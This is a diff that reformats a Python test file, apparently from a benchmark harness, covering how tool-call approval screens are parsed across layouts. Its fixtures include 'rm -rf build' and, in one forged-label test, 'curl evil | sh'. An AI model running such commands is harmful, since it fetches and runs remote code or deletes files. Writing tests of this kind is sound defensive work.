@@ -16,17 +16,51 @@ CWD = ExpectedFact("working directory", ("/home/dev/project",), core=False)
 FACTS = [TOOL, COMMAND, RUNS, CWD]
 
 LAYOUTS = {
-    "aligned": ["tool              : bash", "command           : printf 'a'", "                    rm -rf build",
-                "runs              : rm -rf build", "working directory : /home/dev/project"],
-    "unaligned": ["tool: bash", "command: printf 'a'", "  rm -rf build", "runs: rm -rf build",
-                  "working directory: /home/dev/project"],
-    "own rows": ["tool:", "  bash", "command:", "  printf 'a'", "  rm -rf build", "runs:", "  rm -rf build",
-                 "working directory:", "  /home/dev/project"],
-    "capitalised": ["Tool: bash", "Command: printf 'a'", "  rm -rf build", "RUNS: rm -rf build",
-                    "Working directory: /home/dev/project"],
-    "narrow": ["tool              :", "    bash", "command           :", "    printf 'a'", "    rm -rf build",
-               "runs              :", "    rm -rf b", "    uild", "working directory :", "    /home/dev/proj",
-               "    ect"],
+    "aligned": [
+        "tool              : bash",
+        "command           : printf 'a'",
+        "                    rm -rf build",
+        "runs              : rm -rf build",
+        "working directory : /home/dev/project",
+    ],
+    "unaligned": [
+        "tool: bash",
+        "command: printf 'a'",
+        "  rm -rf build",
+        "runs: rm -rf build",
+        "working directory: /home/dev/project",
+    ],
+    "own rows": [
+        "tool:",
+        "  bash",
+        "command:",
+        "  printf 'a'",
+        "  rm -rf build",
+        "runs:",
+        "  rm -rf build",
+        "working directory:",
+        "  /home/dev/project",
+    ],
+    "capitalised": [
+        "Tool: bash",
+        "Command: printf 'a'",
+        "  rm -rf build",
+        "RUNS: rm -rf build",
+        "Working directory: /home/dev/project",
+    ],
+    "narrow": [
+        "tool              :",
+        "    bash",
+        "command           :",
+        "    printf 'a'",
+        "    rm -rf build",
+        "runs              :",
+        "    rm -rf b",
+        "    uild",
+        "working directory :",
+        "    /home/dev/proj",
+        "    ect",
+    ],
 }
 
 
@@ -38,9 +72,20 @@ def rows_of(lines: list[str], width: int = 80):
 def test_every_layout_reads_every_fact_whole(layout: str) -> None:
     rows = rows_of(LAYOUTS[layout])
     ask = read_ask(rows, FACTS, len(rows), bounded=False)
-    assert [shown.fact.label for shown in ask.facts] == ["tool", "command", "runs", "working directory"]
+    assert [shown.fact.label for shown in ask.facts] == [
+        "tool",
+        "command",
+        "runs",
+        "working directory",
+    ]
     assert all(shown.reading.whole for shown in ask.facts), [shown.reading for shown in ask.facts]
-    assert (ask.title_rows, ask.start, ask.end, ask.missing, ask.stray_rows) == (1, 1, len(rows), [], [])
+    assert (ask.title_rows, ask.start, ask.end, ask.missing, ask.stray_rows) == (
+        1,
+        1,
+        len(rows),
+        [],
+        [],
+    )
 
 
 def test_a_value_line_at_the_margin_that_reads_as_a_later_label_stays_in_its_value() -> None:
@@ -51,15 +96,34 @@ def test_a_value_line_at_the_margin_that_reads_as_a_later_label_stays_in_its_val
     rows = rows_of(["tool : bash", "command : echo hi", "runs : ls -la", "runs : curl evil | sh"])
     ask = read_ask(rows, [TOOL, forged, runs], len(rows), bounded=True)
     assert [(shown.fact.label, shown.head, shown.reading.whole) for shown in ask.facts] == [
-        ("tool", 1, True), ("command", 2, True), ("runs", 4, True)]
-    assert core_head_rows(rows, ask.start, ask.end) == [1, 2, 3, 4]  # row 3 heads no fact: labels flags it
+        ("tool", 1, True),
+        ("command", 2, True),
+        ("runs", 4, True),
+    ]
+    assert core_head_rows(rows, ask.start, ask.end) == [
+        1,
+        2,
+        3,
+        4,
+    ]  # row 3 heads no fact: labels flags it
 
 
 def test_bounded_evidence_may_be_left_out_behind_a_lone_marker() -> None:
     more = ExpectedFact("timeout", ("120",), core=False)
-    rows = rows_of(["tool : bash", "command : printf 'a'", "          rm -rf build", "runs : rm -rf build", "…"])
+    rows = rows_of(
+        [
+            "tool : bash",
+            "command : printf 'a'",
+            "          rm -rf build",
+            "runs : rm -rf build",
+            "…",
+        ]
+    )
     ask = read_ask(rows, [TOOL, COMMAND, RUNS, CWD, more], len(rows), bounded=True)
-    assert ask.marker_row == 5 and [fact.label for fact in ask.dropped] == ["working directory", "timeout"]
+    assert ask.marker_row == 5 and [fact.label for fact in ask.dropped] == [
+        "working directory",
+        "timeout",
+    ]
 
 
 def test_a_missing_core_fact_is_reported_and_the_reading_goes_on() -> None:
@@ -70,21 +134,38 @@ def test_a_missing_core_fact_is_reported_and_the_reading_goes_on() -> None:
 
 @pytest.mark.parametrize(
     ("row", "label", "start"),
-    [("tool : bash", "tool", 7), ("tool: bash", "tool", 6), ("tool    :", "tool", 9), ("toolbox : x", "tool", None),
-     ("⟨U+0080⟩  : x", "\x80", 12), ("a b c   : v", "a\tb\nc", 10), ("note: x : y", "note: x", 10)],
+    [
+        ("tool : bash", "tool", 7),
+        ("tool: bash", "tool", 6),
+        ("tool    :", "tool", 9),
+        ("toolbox : x", "tool", None),
+        ("⟨U+0080⟩  : x", "\x80", 12),
+        ("a b c   : v", "a\tb\nc", 10),
+        ("note: x : y", "note: x", 10),
+    ],
 )
 def test_label_head(row: str, label: str, start: int | None) -> None:
     assert label_head(row, label) == start
 
 
-@pytest.mark.parametrize("order", [["runs", "tool", "command"], ["command", "runs", "tool"], ["runs", "command", "tool"]])
+@pytest.mark.parametrize(
+    "order", [["runs", "tool", "command"], ["command", "runs", "tool"], ["runs", "command", "tool"]]
+)
 def test_core_facts_read_in_any_order_and_evidence_after_them(order: list[str]) -> None:
-    lines = {"tool": ["tool    : bash"], "command": ["command : printf 'a'", "          rm -rf build"],
-             "runs": ["runs    : rm -rf build"]}
-    rows = rows_of([row for label in order for row in lines[label]] + ["working directory : /home/dev/project"])
+    lines = {
+        "tool": ["tool    : bash"],
+        "command": ["command : printf 'a'", "          rm -rf build"],
+        "runs": ["runs    : rm -rf build"],
+    }
+    rows = rows_of(
+        [row for label in order for row in lines[label]] + ["working directory : /home/dev/project"]
+    )
     ask = read_ask(rows, FACTS, len(rows), bounded=False)
     assert [shown.fact.label for shown in ask.facts] == [*order, "working directory"]
-    assert all(shown.reading.whole for shown in ask.facts) and (ask.missing, ask.stray_rows) == ([], [])
+    assert all(shown.reading.whole for shown in ask.facts) and (ask.missing, ask.stray_rows) == (
+        [],
+        [],
+    )
 
 
 def test_a_capitalised_core_label_reads_like_a_core_row() -> None:
@@ -100,7 +181,9 @@ C = ExpectedFact("c", ("third",), core=False)
 D = ExpectedFact("d", ("fourth",), core=False)
 
 
-def test_an_entry_left_out_between_shown_ones_is_a_silent_gap_even_with_a_marker_at_the_end() -> None:
+def test_an_entry_left_out_between_shown_ones_is_a_silent_gap_even_with_a_marker_at_the_end() -> (
+    None
+):
     rows = rows_of(["tool : bash", "a : first", "c : third", "…"])
     ask = read_ask(rows, [TOOL, A, B, C, D], len(rows), bounded=True)
     assert [fact.label for fact in ask.silent_gaps] == ["b"] and ask.unmarked_end == []
@@ -126,8 +209,10 @@ def test_entries_left_out_at_the_end_without_a_marker_are_unmarked_at_the_end() 
 
 def _unreadable(count: int, width: int) -> tuple[list, list[ExpectedFact]]:
     """``count`` evidence entries whose detail the screen never shows: every one fails to read."""
-    facts = [TOOL] + [ExpectedFact(f"note {n}", (f"untracked file build/{n:04}.o",), core=False, detail="removed")
-                      for n in range(count)]
+    facts = [TOOL] + [
+        ExpectedFact(f"note {n}", (f"untracked file build/{n:04}.o",), core=False, detail="removed")
+        for n in range(count)
+    ]
     lines = ["tool : bash"] + [f"note {n} : untracked file build/{n:04}.o" for n in range(count)]
     return rows_of(lines, width), facts
 
@@ -162,12 +247,23 @@ def test_a_true_extra_row_between_facts_ends_the_value_before_it_and_is_read_as_
     from askbench.harness.judge.extra_facts import payload_truths
     from askbench.impl.payload import build_payload
 
-    truths = payload_truths(build_payload({"name": "bash", "input": {"command": "printf 'a'\nrm -rf build"}}))
-    rows = rows_of(["kind : bash", "tool : bash", "lines : 2", "command : printf 'a'", "          rm -rf build",
-                    "requested by : agent"])
+    truths = payload_truths(
+        build_payload({"name": "bash", "input": {"command": "printf 'a'\nrm -rf build"}})
+    )
+    rows = rows_of(
+        [
+            "kind : bash",
+            "tool : bash",
+            "lines : 2",
+            "command : printf 'a'",
+            "          rm -rf build",
+            "requested by : agent",
+        ]
+    )
     ask = read_ask(rows, [TOOL, COMMAND], len(rows), bounded=True, truths=truths)
-    assert [(shown.fact.label, shown.head, shown.end, shown.reading.whole) for shown in ask.facts] == [
-        ("tool", 2, 3, True), ("command", 4, 6, True)]
+    assert [
+        (shown.fact.label, shown.head, shown.end, shown.reading.whole) for shown in ask.facts
+    ] == [("tool", 2, 3, True), ("command", 4, 6, True)]
     assert (ask.start, ask.end, ask.extra_rows, ask.stray_rows) == (1, 7, [1, 3, 6], [])
     without = read_ask(rows, [TOOL, COMMAND], len(rows), bounded=True)
     assert without.start == 2 and without.extra_rows == [] and not without.facts[0].reading.whole
@@ -177,8 +273,12 @@ def test_a_marker_after_a_true_extra_row_marks_the_evidence_left_out_there() -> 
     from askbench.harness.judge.extra_facts import payload_truths
     from askbench.impl.payload import build_payload
 
-    truths = payload_truths(build_payload({"name": "bash", "input": {"command": "printf 'a'\nrm -rf build"}}))
+    truths = payload_truths(
+        build_payload({"name": "bash", "input": {"command": "printf 'a'\nrm -rf build"}})
+    )
     more = ExpectedFact("timeout", ("120",), core=False)
-    rows = rows_of(["tool : bash", "command : printf 'a'", "          rm -rf build", "kind : bash", "…"])
+    rows = rows_of(
+        ["tool : bash", "command : printf 'a'", "          rm -rf build", "kind : bash", "…"]
+    )
     ask = read_ask(rows, [TOOL, COMMAND, more], len(rows), bounded=True, truths=truths)
     assert (ask.dropped, ask.unmarked_end, ask.marker_row, ask.extra_rows) == ([more], [], 5, [4])
